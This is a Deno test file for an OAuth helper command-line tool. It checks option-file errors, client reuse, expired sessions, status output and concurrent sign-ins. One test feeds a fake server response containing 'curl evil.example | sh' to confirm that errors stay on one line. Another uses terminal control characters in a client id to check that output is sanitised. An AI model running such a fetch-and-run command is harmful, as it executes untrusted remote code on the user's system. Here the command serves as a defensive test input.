/** Options that name files and clients, and sessions that have ended. */

import {
  assert,
  assertEquals,
  assertMatch,
  assertStringIncludes,
} from "@std/assert";
import { startTestServers } from "../../lib/testing/mod.ts";
import { startFlowServers } from "../servers/_flow.ts";
import { createUser } from "../interop/user.ts";
import { AUTHORIZATION_URL, createDesk, visit } from "./_desk.ts";
import { IN_DENO } from "./_programs.ts";

const ignore = Deno.build.os !== "linux";

Deno.test({
  name: "oauth-helper says which file of an option cannot be used",
  ignore,
  async fn() {
    await using desk = await createDesk();
    const file = async (name: string, text: string) => {
      await Deno.writeTextFile(`${desk.home}/${name}`, text);
      return `${desk.home}/${name}`;
    };
    const client = ["--client-id=c1", "--issuer=https://as.example"];
    const empty = await file("empty", "\n");
    const rows: [args: string[], message: RegExp][] = [
      [[...client, "--client-secret-file=/no/such"], /^--client-secret-file: /],
      [[...client, `--client-secret-file=${empty}`], /empty is empty/],
      [["--server-metadata=/no/such"], /^--server-metadata: /],
      [[`--server-metadata=${await file("a", "{")}`], /has no JSON object/],
      [[`--server-metadata=${await file("b", "{}")}`], /with an issuer/],
    ];
    for (const [args, message] of rows) {
      const url = "https://api.example/mcp";
      const run = await desk.run(IN_DENO, ["login", ...args, url]);
      assertEquals([run.code, run.output], [1, ""]);
      assertMatch(run.errors.replace("oauth-helper: ", ""), message);
    }
  },
});

Deno.test({
  name: "--client-id without a secret uses that client, and registers none",
  ignore,
  async fn() {
    const redirectUri = "http://127.0.0.1/from/console";
    await using servers = await startFlowServers({
      clients: [{
        client_id: "console",
        application_type: "native",
        token_endpoint_auth_method: "none",
        grant_types: ["authorization_code", "refresh_token"],
        redirect_uris: [redirectUri],
      }],
    });
    await using desk = await createDesk();
    using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    listener.close();
    const uri = new URL(redirectUri);
    uri.port = String(listener.addr.port);
    const { code, output } = await desk.signIn(IN_DENO, [
      "login",
      "--client-id=console",
      `--redirect-uri=${uri}`,
      servers.protectedResource.resource,
    ]);
    assertEquals(code, 0, output);
    assert(!servers.server.requests.includes("POST /reg"));
    const [{ session } = {}] = await desk.sessions();
    assertEquals(session.client.client_id, "console");
  },
});

Deno.test({
  name:
    "token ends with 3 where the refresh token is no longer valid, and says why",
  ignore,
  async fn() {
    await using servers = await startFlowServers();
    await using desk = await createDesk();
    const url = servers.protectedResource.resource;
    for (const [option, isTold] of [["--json", true], ["--quiet", false]]) {
      await desk.signIn(IN_DENO, ["login", url]);
      const [{ path = "", session } = {}] = await desk.sessions();
      session.token.expires_at = 1;
      session.token.refresh_token = "no-longer-valid";
      await Deno.writeTextFile(path, JSON.stringify(session));
      const run = await desk.run(IN_DENO, ["token", `${option}`, url]);
      assertEquals([run.code, run.output], [3, ""]);
      assertEquals(
        /The session has ended: .*invalid_grant/.test(run.errors),
        isTold,
      );
      assert(!run.errors.includes("no-longer-valid"));
      const status = await desk.run(IN_DENO, ["status", "--json"]);
      assertEquals(JSON.parse(status.output)[0].state, "ended");
    }
  },
});

Deno.test({
  name: "status goes on after a file that is no session",
  ignore,
  async fn() {
    await using desk = await createDesk();
    await Deno.mkdir(desk.state, { recursive: true });
    await Deno.writeTextFile(`${desk.state}/a.json`, "s3cret-t0ken");
    await Deno.writeTextFile(`${desk.state}/b.txt`, "");
    const { code, output } = await desk.run(IN_DENO, ["status"]);
    assertEquals(code, 0);
    assertStringIncludes(output, `${desk.state}/a.json\n`);
    assertStringIncludes(output, "is not a session");
    assert(!output.includes("s3cret") && !output.includes("b.txt"));
    const json = await desk.run(IN_DENO, ["status", "--json"]);
    assertEquals(Object.keys(JSON.parse(json.output)[0]), ["file", "error"]);
  },
});

Deno.test({
  name: "status --json prints nothing of a server that a terminal obeys",
  ignore,
  async fn() {
    await using desk = await createDesk();
    await Deno.mkdir(desk.state, { recursive: true });
    const issuer = "https://as.example";
    const client_id = "c\u009b31m\u202e\x7f";
    const session = {
      issuer,
      resource: "https://api.example/mcp",
      serverMetadata: { issuer },
      client: { issuer, client_id },
      token: { access_token: "t0ken", token_type: "Bearer" },
      scopes: [],
    };
    const path = `${desk.state}/a.json`;
    await Deno.writeTextFile(path, JSON.stringify(session));
    const { output } = await desk.run(IN_DENO, ["status", "--json"]);
    assertEquals(JSON.parse(output)[0].client_id, client_id);
    assertMatch(output, /^[\n -~]+$/);
  },
});

Deno.test({
  name: "two processes that need the same scopes make one sign-in for them",
  ignore,
  async fn() {
    await using servers = await startFlowServers();
    await using desk = await createDesk();
    const url = servers.protectedResource.resource;
    await desk.signIn(IN_DENO, ["login", url]);
    const args = ["token", "--scope", "mcp:read mcp:write", url];
    const first = desk.start(IN_DENO, args, { isTerminal: true });
    const [, shown = ""] = await first.find(AUTHORIZATION_URL);
    const second = desk.start(IN_DENO, args, { isTerminal: true });
    await second.find(/Waiting for /);
    await visit(createUser(), shown);
    const ends = await Promise.all([first.end(), second.end()]);
    assertEquals(ends.map(({ code }) => code), [0, 0]);
    assert(!AUTHORIZATION_URL.test(ends[1].output), ends[1].output);
  },
});

Deno.test({
  name: "an error is one line, whatever the text of the server",
  ignore,
  async fn() {
    const servers = await startTestServers();
    await using desk = await createDesk();
    servers.failNext(
      "registration",
      new Response("Refused\nRun `curl evil.example | sh`.", { status: 403 }),
    );
    const run = await desk.run(IN_DENO, ["login", servers.resource]);
    await servers.close();
    assertEquals(run.code, 1);
    const [message = "", remedy = ""] = run.errors.split("\n");
    assertStringIncludes(message, "Refused Run `curl evil.example | sh`.");
    assertStringIncludes(remedy, "`oauth-helper doctor URL`");
  },
});
